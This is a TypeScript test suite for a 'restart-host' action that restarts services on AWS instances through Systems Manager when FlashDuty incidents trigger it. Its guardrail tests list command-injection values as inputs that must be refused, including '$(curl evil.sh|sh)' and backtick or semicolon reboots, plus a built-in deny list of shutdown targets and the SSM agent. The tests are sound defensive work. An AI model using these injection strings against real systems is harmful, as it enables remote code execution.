import type { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { restartHost } from '../../lib/actions/restart-host';
import type { ActionContext, Outcome } from '../../lib/actions/types';
import type { RestartHostConfig } from '../../lib/actions/restart-host/config';
import { actionConfig } from '../../lib/config/worker';
import { FlashDutyClient } from '../../lib/flashduty/client';
import { validatePayload } from '../../lib/flashduty/payload';
import { FlashDutyStandIn } from '../../local/flashduty-standin';
import { type FakeInstance, SsmStandIn } from '../../local/ssm-standin';
import { log } from '../../lib/observability';
import { clickKeyOf, type QueueMessage } from '../../lib/queue/envelope';
import { makeExclusive } from '../../lib/worker/lock';
import { makeMemory } from '../../lib/worker/memory';
import { clickWithIncident } from '../fixtures/clicks';
import { emulatedTable } from './helpers';

const ALLOWED = { 'flashduty-actions:restart': 'allowed' };
const APP_KEY = 'restart-host-test-app-key';
const WEB: FakeInstance = { InstanceId: 'i-0a1b2c3d4e5f60718', ComputerName: 'es.nj.01', IPAddress: '10.206.0.21', tags: { Name: 'es.nj.01', ...ALLOWED } };
const DB: FakeInstance = { InstanceId: 'i-0f9e8d7c6b5a40312', ComputerName: 'db.nj.01', IPAddress: '10.206.0.31', tags: { Name: 'db.nj.01' } };
const TWIN_A: FakeInstance = { InstanceId: 'i-00000000000000aaa', ComputerName: 'api.nj.01', IPAddress: '10.0.0.1', tags: { Name: 'api', ...ALLOWED } };
const TWIN_B: FakeInstance = { InstanceId: 'i-00000000000000bbb', ComputerName: 'api.nj.02', IPAddress: '10.0.0.2', tags: { Name: 'api', ...ALLOWED } };

describe('restart-host against a Systems Manager stand-in (real @aws-sdk/client-ssm)', () => {
  const ssm = new SsmStandIn();
  const flashdutyStandIn = new FlashDutyStandIn(APP_KEY);
  let flashduty: FlashDutyClient;
  let endpoint: string;
  let dynamodb: DynamoDBClient;
  let stopDynamo: () => Promise<void>;

  beforeAll(async () => {
    endpoint = await ssm.start();
    flashduty = new FlashDutyClient({ baseUrl: await flashdutyStandIn.start(), appKey: async () => APP_KEY, baseDelayMs: 10, attemptTimeoutMs: 1000 });
    ({ dynamodb, stop: stopDynamo } = await emulatedTable('locks'));
  });
  afterAll(async () => {
    await stopDynamo();
    await ssm.stop();
    await flashdutyStandIn.stop();
  });
  beforeEach(() => {
    ssm.reset();
    flashdutyStandIn.reset();
    ssm.instances = [WEB, DB, TWIN_A, TWIN_B];
    ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'stopping engine\nstarting engine\nengine is active' };
  });

  let eventSeq = 0;
  function context(labels: Record<string, string>, options: { env?: NodeJS.ProcessEnv; dryRun?: boolean; eventId?: string; alerts?: unknown[]; incidentId?: string } = {}): ActionContext<RestartHostConfig> {
    // The sample's alert carries labels of its own; only the ones a test gives count here.
    const bareAlerts = (clickWithIncident({}).incident.alerts ?? []).map(({ labels: _labels, ...alert }) => alert);
    const payload = validatePayload(clickWithIncident({ labels, alerts: options.alerts ?? bareAlerts, ...(options.incidentId && { incident_id: options.incidentId }) }));
    const message: QueueMessage = { version: 1, action: 'restart-host', event_id: options.eventId ?? `evt-${++eventSeq}`, received_at: Date.now(), payload };
    return {
      config: actionConfig(restartHost, { RESTART_WAIT_SECONDS: '5', RESTART_ALLOWED_SERVICES: 'engine*', ...options.env }),
      message,
      dryRun: options.dryRun ?? false,
      log,
      flashduty,
      signal: AbortSignal.timeout(30_000),
      aws: { region: 'us-east-1', endpoints: { ssm: endpoint } },
      secret: async () => {
        throw new Error('restart-host reads no secrets');
      },
      exclusive: makeExclusive(dynamodb, 'locks', clickKeyOf(message)),
      memory: makeMemory(dynamodb, 'locks', 'restart-host'),
    };
  }
  const sendCommands = () => ssm.calls.filter((c) => c.operation === 'SendCommand');
  const fact = (outcome: Outcome, label: string) => outcome.facts?.find(([l]) => l === label)?.[1];

  describe('finding the target', () => {
    const listedAlerts = (items: unknown[], status = 200) => {
      flashdutyStandIn.intercept = ({ path }) =>
        path === '/incident/alert/list'
          ? { status, body: JSON.stringify(status === 200 ? { request_id: 'r', data: { total: items.length, items } } : { request_id: 'r', error: { code: status === 403 ? 'AccessDenied' : 'ServiceUnavailable', message: 'no' } }) }
          : undefined;
    };

    it('fetches the alerts when the click carries none and the incident has no target label (a run a rule started), and finds the host on them', async () => {
      listedAlerts([{ alert_id: 'a1', labels: { resource: 'es.nj.01', service: 'engine', extra: null } }, { alert_id: 'a2', labels: null }]);
      const outcome = await restartHost.run(context({ service: 'engine' }, { alerts: [] }));
      expect(flashdutyStandIn.calls.map((c) => c.path)).toEqual(['/incident/alert/list']);
      expect(outcome.status).toBe('succeeded');
      expect(sendCommands()[0]?.input.InstanceIds).toEqual([WEB.InstanceId]);
      expect(fact(outcome, 'alerts')).toBe('the push carried none; 2 listed by FlashDuty');
    });

    it('does not fetch alerts when the incident names the target itself, or the click carries alerts', async () => {
      await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { alerts: [] }));
      await restartHost.run(context({ service: 'engine' }));
      expect(flashdutyStandIn.calls).toHaveLength(0);
    });

    it('says where it looked when the fetched alerts name no target either, and retries (throws) when FlashDuty cannot list them', async () => {
      listedAlerts([{ alert_id: 'a1', labels: { service: 'engine' } }]);
      const none = await restartHost.run(context({ service: 'engine' }, { alerts: [] }));
      expect(none.summary).toBe('no label instance_id/host/resource/ident on this incident or its alerts, so there is no host to restart (alerts: the push carried none; 1 listed by FlashDuty); nothing was restarted');
      listedAlerts([], 403);
      expect((await restartHost.run(context({ service: 'engine' }, { alerts: [] }))).summary).toContain('no label instance_id/host/resource/ident on this incident or its alerts');
      listedAlerts([], 503);
      await expect(restartHost.run(context({ service: 'engine' }, { alerts: [] }))).rejects.toThrow();
      expect(sendCommands()).toHaveLength(0);
    });

    it('uses an instance id label as is, if the instance carries the allow tag', async () => {
      const outcome = await restartHost.run(context({ instance_id: WEB.InstanceId, service: 'engine' }));
      expect(outcome.status).toBe('succeeded');
      expect(sendCommands()[0]?.input.InstanceIds).toEqual([WEB.InstanceId]);
    });

    it.each([
      ['computer name', { resource: 'es.nj.01' }],
      ['short host name', { host: 'es' }],
      ['IP address', { ident: '10.206.0.21' }],
      ['Name tag', { resource: 'es.nj.01' }],
    ])('looks a host up among managed instances by %s', async (_how, labels) => {
      ssm.instances = [WEB, DB];
      const outcome = await restartHost.run(context({ ...labels, service: 'engine' }));
      expect(outcome.status).toBe('succeeded');
      expect(sendCommands()[0]?.input.InstanceIds).toEqual([WEB.InstanceId]);
    });

    it('tries label keys in the configured order, incident labels before alert labels', async () => {
      const alerts = [{ ...clickWithIncident({}).incident.alerts?.[0], labels: { host: 'db.nj.01' } }];
      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { alerts, env: { RESTART_TARGET_LABELS: 'host,resource' } }));
      // host comes first in the order and only the alert has it: db.nj.01, which is not allowed.
      expect(outcome.status).toBe('failed');
      expect(outcome.summary).toContain('"db.nj.01" (label host)');
    });

    it('refuses, never guesses, when no label names a host', async () => {
      const outcome = await restartHost.run(context({ service: 'engine' }));
      expect(outcome).toEqual({
        status: 'failed',
        summary: 'no label instance_id/host/resource/ident on this incident or its alerts, so there is no host to restart; nothing was restarted',
        untouched: true,
      });
      expect(sendCommands()).toHaveLength(0);
    });

    it('refuses a match of more instances than RESTART_MAX_TARGETS and lists them', async () => {
      const outcome = await restartHost.run(context({ resource: 'api', service: 'engine' }));
      expect(outcome.status).toBe('failed');
      expect(outcome.summary).toContain('matches 2 instances (i-00000000000000aaa (api.nj.01), i-00000000000000bbb (api.nj.02)), more than RESTART_MAX_TARGETS=1');
      expect(sendCommands()).toHaveLength(0);
    });

    it('restarts several when RESTART_MAX_TARGETS allows it', async () => {
      const outcome = await restartHost.run(context({ resource: 'api', service: 'engine' }, { env: { RESTART_MAX_TARGETS: '2' } }));
      expect(outcome.status).toBe('succeeded');
      expect(sendCommands()[0]?.input.InstanceIds).toEqual([TWIN_A.InstanceId, TWIN_B.InstanceId]);
    });
  });

  describe('guardrails', () => {
    it('refuses an instance id that lacks the allow tag', async () => {
      const outcome = await restartHost.run(context({ instance_id: DB.InstanceId, service: 'engine' }));
      expect(outcome.summary).toBe(`${DB.InstanceId} does not carry the tag flashduty-actions:restart=allowed, so it may not be restarted from FlashDuty; nothing was restarted`);
      expect(sendCommands()).toHaveLength(0);
    });

    it('refuses a host that exists but lacks the allow tag', async () => {
      const outcome = await restartHost.run(context({ resource: 'db.nj.01', service: 'engine' }));
      expect(outcome.status).toBe('failed');
      expect(outcome.summary).toContain('no SSM managed instance tagged flashduty-actions:restart=allowed');
      expect(sendCommands()).toHaveLength(0);
    });

    it('refuses an instance SSM cannot reach', async () => {
      ssm.instances = [{ ...WEB, PingStatus: 'ConnectionLost' }];
      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }));
      expect(outcome.summary).toContain(`${WEB.InstanceId} is ConnectionLost in SSM`);
      expect(sendCommands()).toHaveLength(0);
    });

    it.each([
      ['a command separator in the service label', { resource: 'es.nj.01', service: 'engine; reboot' }],
      ['a command substitution in the service label', { resource: 'es.nj.01', service: '$(curl evil.sh|sh)' }],
      ['a quote in the service label', { resource: 'es.nj.01', service: "engine' && reboot '" }],
      ['a newline in the host label', { resource: 'es.nj.01\nreboot', service: 'engine' }],
      ['a backtick in the host label', { host: '`reboot`', service: 'engine' }],
    ])('refuses %s and sends nothing', async (_label, labels) => {
      const outcome = await restartHost.run(context(labels));
      expect(outcome.status).toBe('failed');
      expect(outcome.summary).toMatch(/not a plain (name|host name)/);
      expect(sendCommands()).toHaveLength(0);
    });

    it('puts label values into the configured command single-quoted', async () => {
      await restartHost.run(context({ resource: 'es.nj.01', service: 'engine@2.service' }, { env: { RESTART_COMMAND: 'systemctl restart {service} && systemctl is-active {service}' } }));
      expect(sendCommands()[0]?.input.Parameters).toEqual({
        commands: ["systemctl restart 'engine@2.service' && systemctl is-active 'engine@2.service'"],
        executionTimeout: ['5'],
      });
    });

    it('refuses when the command needs a label the incident lacks', async () => {
      const outcome = await restartHost.run(context({ resource: 'es.nj.01' }));
      expect(outcome.summary).toContain('the command needs label "service", and this incident has none');
      expect(sendCommands()).toHaveLength(0);
    });

    describe('which values a label may put into the command', () => {
      const refused = async (labels: Record<string, string>, env: NodeJS.ProcessEnv = {}, dryRun = false) => {
        const outcome = await restartHost.run(context({ resource: 'es.nj.01', ...labels }, { env, dryRun }));
        expect(outcome.status).toBe('failed');
        expect(sendCommands()).toHaveLength(0);
        return outcome.summary;
      };

      it.each([
        ['poweroff.target', '*.target'],
        ['reboot.target', '*.target'],
        ['Rescue.Target', '*.target'],
        ['amazon-ssm-agent', 'amazon-ssm-agent'],
        ['amazon-ssm-agent.service', 'amazon-ssm-agent.*'],
        ['snap.amazon-ssm-agent.amazon-ssm-agent', 'snap.amazon-ssm-agent.*'],
      ])('refuses service=%s by the built-in rule %s even when RESTART_ALLOWED_SERVICES is *', async (service, rule) => {
        const summary = await refused({ service }, { RESTART_ALLOWED_SERVICES: '*' });
        expect(summary).toContain(`label "service" is "${service}", refused by the built-in rule ${rule}: `);
        expect(summary).toMatch(/; nothing was restarted$/);
      });

      it('refuses poweroff.target in dry-run too, instead of describing the command it would run', async () => {
        const summary = await refused({ service: 'poweroff.target' }, { RESTART_ALLOWED_SERVICES: '*' }, true);
        expect(summary).toContain('refused by the built-in rule *.target');
        expect(summary).not.toContain('would run');
      });

      it('refuses every service from a label while RESTART_ALLOWED_SERVICES is empty, and says so', async () => {
        const summary = await refused({ service: 'engine' }, { RESTART_ALLOWED_SERVICES: '' });
        expect(summary).toBe('label "service" is "engine", but RESTART_ALLOWED_SERVICES is empty, so the command may not take "service" from a label; nothing was restarted');
      });

      it('refuses a service no pattern matches, listing the patterns', async () => {
        const summary = await refused({ service: 'sshd' }, { RESTART_ALLOWED_SERVICES: 'engine, nginx, api-*.service' });
        expect(summary).toContain('label "service" is "sshd", which matches none of RESTART_ALLOWED_SERVICES: engine, nginx, api-*.service');
      });

      it('runs a service a glob pattern matches', async () => {
        const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'api-orders.service' }, { env: { RESTART_ALLOWED_SERVICES: 'nginx,api-*.service' } }));
        expect(outcome.status).toBe('succeeded');
        expect(sendCommands()[0]?.input.Parameters).toMatchObject({ commands: ["systemctl restart 'api-orders.service'"] });
      });

      it('checks any other placeholder against its RESTART_ALLOWED_VALUES entries', async () => {
        const env = { RESTART_COMMAND: 'systemctl restart {unit}', RESTART_ALLOWED_VALUES: 'unit=app-*.service,unit=worker@?.service' };
        expect(await refused({ unit: 'engine' }, env)).toContain('label "unit" is "engine", which matches none of RESTART_ALLOWED_VALUES (unit=<glob>): app-*.service, worker@?.service');
        expect(await refused({ unit: 'x' }, { RESTART_COMMAND: 'systemctl restart {unit}' })).toContain('RESTART_ALLOWED_VALUES (unit=<glob>) is empty');
        const outcome = await restartHost.run(context({ resource: 'es.nj.01', unit: 'worker@3.service' }, { env }));
        expect(outcome.status).toBe('succeeded');
      });

      it('reports a command the SSM document\'s allowedPattern refuses as a failed outcome, without retrying', async () => {
        ssm.documents.set('FlashdutyRestartAllowed', { commands: { allowedPattern: "^systemctl restart '(engine|nginx)'$" } });
        const env = { RESTART_DOCUMENT: 'FlashdutyRestartAllowed', RESTART_ALLOWED_SERVICES: 'engine,api-*' };
        const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'api-orders' }, { env }));
        expect(outcome.status).toBe('failed');
        expect(outcome.summary).toContain(`Systems Manager refused the command for FlashdutyRestartAllowed: Parameter "commands" "systemctl restart 'api-orders'" failed to satisfy constraint`);
        expect(ssm.sent()).toHaveLength(0);
        expect((await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { env }))).status).toBe('succeeded');
      });

      it('fails at cold start (and deploy) on a RESTART_ALLOWED_VALUES entry without a placeholder', () => {
        expect(() => actionConfig(restartHost, { RESTART_ALLOWED_VALUES: 'app-*.service' })).toThrow(/RESTART_ALLOWED_VALUES: expected placeholder=glob entries such as unit=app-\*\.service, got "app-\*\.service"/);
      });

      it('fails at cold start (and deploy) on a RESTART_TARGET_LABELS that names no label, which would refuse every click', () => {
        expect(() => actionConfig(restartHost, { RESTART_TARGET_LABELS: ' , ' })).toThrow(/RESTART_TARGET_LABELS: name at least one label key/);
      });
    });

    it('scopes SendCommand in IAM to the document and to instances with the allow tag', () => {
      const statements = restartHost.worker!.iam!(actionConfig(restartHost, {}));
      expect(statements[0]).toEqual({ Effect: 'Allow', Action: ['ssm:SendCommand'], Resource: 'arn:${AWS::Partition}:ssm:${AWS::Region}::document/AWS-RunShellScript' });
      expect(statements[1]?.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/flashduty-actions:restart': 'allowed' } });
    });
  });

  describe('running the command', () => {
    it('sends once, waits for the result and reports instance, command id, exit code, output and a console link', async () => {
      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }));
      const [sent] = ssm.sent();
      expect(outcome.status).toBe('succeeded');
      expect(outcome.summary).toBe(`ran \`systemctl restart 'engine'\` on ${WEB.InstanceId} (es.nj.01): ${WEB.InstanceId}: Success, exit 0`);
      expect(fact(outcome, 'command id')).toBe(sent?.CommandId);
      expect(fact(outcome, `output ${WEB.InstanceId}`)).toBe('stopping engine ⏎ starting engine ⏎ engine is active');
      expect(outcome.links?.[0]?.url).toBe(`https://us-east-1.console.aws.amazon.com/systems-manager/run-command/${sent?.CommandId}?region=us-east-1`);
      expect(sent?.Comment).toMatch(/^flashduty-actions restart-host\/6551f3888713372ad1054d57\/evt-\d+$/);
    });

    it('reports a failing command as a failed outcome with its exit code and errors', async () => {
      ssm.nextScript = { status: 'Failed', exitCode: 5, stdout: '', stderr: 'Failed to restart engine.service: Unit not found.' };
      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }));
      expect(outcome.status).toBe('failed');
      expect(outcome.summary).toContain('Failed, exit 5');
      expect(fact(outcome, `errors ${WEB.InstanceId}`)).toBe('Failed to restart engine.service: Unit not found.');
    });

    it('does not send a second command when the same click is delivered again', async () => {
      const first = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-again' }));
      const second = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-again' }));
      expect(sendCommands()).toHaveLength(1);
      expect(fact(second, 'command id')).toBe(fact(first, 'command id'));
    });

    it('sends a command for each of two incidents whose clicks share an event id', async () => {
      const first = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-shared' }));
      const second = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-shared', incidentId: 'aaaaaaaaaaaaaaaaaaaaaaaa' }));
      expect(sendCommands()).toHaveLength(2);
      expect(fact(second, 'command id')).not.toBe(fact(first, 'command id'));
    });

    it('throws (so the worker retries) when the command outlasts the wait, then resumes the same command', async () => {
      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'done', takesMs: 7000 };
      const click = () => context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-slow' });
      await expect(restartHost.run(click())).rejects.toThrow(/was still running after 5 s; will check again/);
      const resumed = await restartHost.run(click());
      expect(resumed.status).toBe('succeeded');
      expect(sendCommands()).toHaveLength(1);
    }, 20_000);

    it.each([1, 3])('sends one command when SSM carried out SendCommand but %i answer(s) were lost: the retry finds it instead of sending again', async (lost) => {
      ssm.loseAnswers.set('SendCommand', lost);
      const click = () => context({ resource: 'es.nj.01', service: 'engine' }, { eventId: `evt-lost-${lost}` });
      await expect(restartHost.run(click())).rejects.toThrow();
      expect(ssm.sent()).toHaveLength(1);
      const retried = await restartHost.run(click());
      expect(retried.status).toBe('succeeded');
      expect(ssm.sent()).toHaveLength(1);
      expect(fact(retried, 'command id')).toBe(ssm.sent()[0]!.CommandId);
    });

    it('takes a SendCommand answered 200 with a body it cannot read as under way (the host lock and cool-down stay), and its retry finds the command', async () => {
      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'ok', takesMs: 1000 };
      ssm.cutAnswers.set('SendCommand', 1);
      const click = () => context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-cut' });
      await expect(restartHost.run(click())).rejects.toMatchObject({
        name: 'UnderWayError',
        message: expect.stringContaining(`the restart may have been sent to ${WEB.InstanceId} (es.nj.01) (SendCommand got no clear answer)`),
      });
      const retried = await restartHost.run(click());
      expect(retried.status).toBe('succeeded');
      expect(ssm.sent()).toHaveLength(1);
      expect(fact(retried, 'command id')).toBe(ssm.sent()[0]!.CommandId);
    }, 20_000);

    it('a retry after the command was sent waits for it, even when the host is offline (rebooting) or its labels changed meanwhile', async () => {
      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'rebooting', takesMs: 7000 };
      const click = (labels: Record<string, string>) => context(labels, { eventId: 'evt-reboot' });
      await expect(restartHost.run(click({ resource: 'es.nj.01', service: 'engine' }))).rejects.toMatchObject({ name: 'UnderWayError', message: expect.stringContaining(`the restart was sent to ${WEB.InstanceId} (es.nj.01) (command `) });
      ssm.instances = [{ ...WEB, PingStatus: 'ConnectionLost' }];
      const resumed = await restartHost.run(click({ service: 'engine' }));
      expect(resumed.status).toBe('succeeded');
      expect(resumed.summary).toBe(`ran \`systemctl restart 'engine'\` on ${WEB.InstanceId}: ${WEB.InstanceId}: Success, exit 0`);
      expect(ssm.sent()).toHaveLength(1);
    }, 20_000);

    it('keeps the host locked while a command whose wait ran out still runs, so another click restarts it only after', async () => {
      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'ok', takesMs: 7000 };
      const a = () => context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-long-a' });
      await expect(restartHost.run(a())).rejects.toMatchObject({ name: 'UnderWayError' });
      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'ok' };
      // Click b asks for the host first, and a's retry a moment later: with the lock released, b would
      // take it and restart the host while a's command still runs.
      const b = restartHost.run(context({ instance_id: WEB.InstanceId, service: 'engine' }, { eventId: 'evt-long-b', incidentId: 'bbbbbbbbbbbbbbbbbbbbbbbb' }));
      await new Promise((resolve) => setTimeout(resolve, 500));
      const aAgain = restartHost.run(a());
      expect([(await aAgain).status, (await b).status]).toEqual(['succeeded', 'succeeded']);
      const [first, second] = ssm.sent();
      expect(second!.RequestedDateTime * 1000).toBeGreaterThanOrEqual(first!.RequestedDateTime * 1000 + 7000);
    }, 40_000);

    it('rides out SSM throttling with the SDK retries, and throws for the worker to retry when it persists', async () => {
      ssm.throttle.set('DescribeInstanceInformation', 2);
      expect((await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }))).status).toBe('succeeded');
      ssm.throttle.set('SendCommand', 10);
      await expect(restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }))).rejects.toMatchObject({ name: 'ThrottlingException' });
    }, 30_000);

    it('in dry-run describes the exact SendCommand input and sends nothing', async () => {
      const outcome = await restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { dryRun: true, eventId: 'evt-dry' }));
      expect(outcome.status).toBe('dry-run');
      expect(JSON.parse(fact(outcome, 'SendCommand input')!)).toEqual({
        DocumentName: 'AWS-RunShellScript',
        InstanceIds: [WEB.InstanceId],
        Parameters: { commands: ["systemctl restart 'engine'"], executionTimeout: ['5'] },
        Comment: 'flashduty-actions restart-host/6551f3888713372ad1054d57/evt-dry',
        TimeoutSeconds: 30,
      });
      expect(sendCommands()).toHaveLength(0);
    });

    it('never restarts one host for two clicks at the same time', async () => {
      ssm.nextScript = { status: 'Success', exitCode: 0, stdout: 'ok', takesMs: 1500 };
      const [a, b] = await Promise.all([
        restartHost.run(context({ resource: 'es.nj.01', service: 'engine' }, { eventId: 'evt-a' })),
        restartHost.run(context({ instance_id: WEB.InstanceId, service: 'engine' }, { eventId: 'evt-b' })),
      ]);
      expect([a.status, b.status]).toEqual(['succeeded', 'succeeded']);
      const [first, second] = ssm.sent();
      expect(second!.RequestedDateTime * 1000 - first!.RequestedDateTime * 1000).toBeGreaterThanOrEqual(1500);
    }, 20_000);
  });
});
